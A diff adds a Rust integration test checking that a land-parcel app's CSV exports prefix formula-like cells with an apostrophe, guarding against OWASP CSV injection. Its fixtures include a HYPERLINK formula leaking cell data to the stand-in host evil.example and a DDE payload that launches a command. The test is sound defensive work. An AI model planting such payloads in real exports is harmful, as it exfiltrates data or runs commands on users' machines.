@@ -121,3 +121,57 @@ async fn a_shapefile_export_imports_back_with_the_same_parcels_and_areas() {
         assert!((b.2 - a.2).abs() < 0.01, "{}: {} m² became {} m²", b.0, b.2, a.2);
     }
 }
+
+/// OWASP CSV injection: a text cell that a spreadsheet would run as a formula (it starts with = + - @, a
+/// tab or a carriage return) is written with a leading `'`, in the HTTP export and the command line's;
+/// numbers, negative ones included, stay numbers.
+#[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let db = TestDb::with_district().await;
+    let villages = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "青山村",
+    ];
+    for (n, village) in villages.iter().enumerate() {
+        let code = format!("330604001001JC{:05}", n + 1);
+        fixtures::parcel(&db.pool, &code, (n as f64 + 1.0) * 100.0).await;
+        sqlx::query("update parcels set village = $1 where parcel_code = $2")
+            .bind(village)
+            .bind(&code)
+            .execute(&db.pool)
+            .await
+            .unwrap();
+    }
+    let addr = common::spawn_app_as(db.pool.clone(), Role::Official).await;
+    let served = reqwest::get(format!("http://{addr}/api/v1/export/parcels.csv")).await.unwrap().text().await.unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("parcels.csv");
+    let out = Command::new(env!("CARGO_BIN_EXE_farmhouse"))
+        .args(["export", "parcels", "--format", "csv", "--output"])
+        .arg(&path)
+        .args(["--database-url", &db.url])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let written = std::fs::read_to_string(&path).unwrap();
+
+    for csv in [served, written] {
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let header = reader.headers().unwrap().clone();
+        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+        let (village, area) = (column("village"), column("area_m2"));
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        assert_eq!(rows.len(), villages.len());
+        for (row, original) in rows.iter().zip(villages) {
+            let expected = if original == "青山村" { original.to_string() } else { format!("'{original}") };
+            assert_eq!(&row[village], expected, "{csv}");
+            assert!(row[area].parse::<f64>().unwrap() > 0.0, "numbers stay numbers: {}", &row[area]);
+            assert!(row[column("wkt")].starts_with("POLYGON"));
+        }
+    }
+}
